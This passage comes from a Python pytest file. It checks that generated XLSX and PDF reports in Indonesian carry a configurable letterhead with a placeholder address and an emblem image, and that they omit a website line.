    _, data = reports.build(parse("2024-08"), fmt="xlsx", lang="id")
    path = tmp_path / "kop.xlsx"
    book = workbook(data, path)
    texts = [v for r in rows(book["Ringkasan"]) for v in r if isinstance(v, str)]
    assert "Jl. Contoh No. 1, Banjarbaru 70714" in texts and not any(v.startswith("Laman:") for v in texts)
    with zipfile.ZipFile(path) as archive:
        assert [n for n in archive.namelist() if n.startswith("xl/media/")]  # the emblem


@pytest.mark.slow
@needs_browser
def test_letterhead_is_configurable_in_the_pdf(small_env, tmp_path, monkeypatch):
    letterhead(monkeypatch, tmp_path)
    _, data = reports.build(parse("2024-08"), fmt="pdf", lang="id")
    text = pdf_text(data, tmp_path / "kop.pdf")
    assert "Jl. Contoh No. 1, Banjarbaru 70714" in text and "Laman:" not in text
    assert len(PdfReader(tmp_path / "kop.pdf").pages[0].images) == 1  # the emblem beside the kop
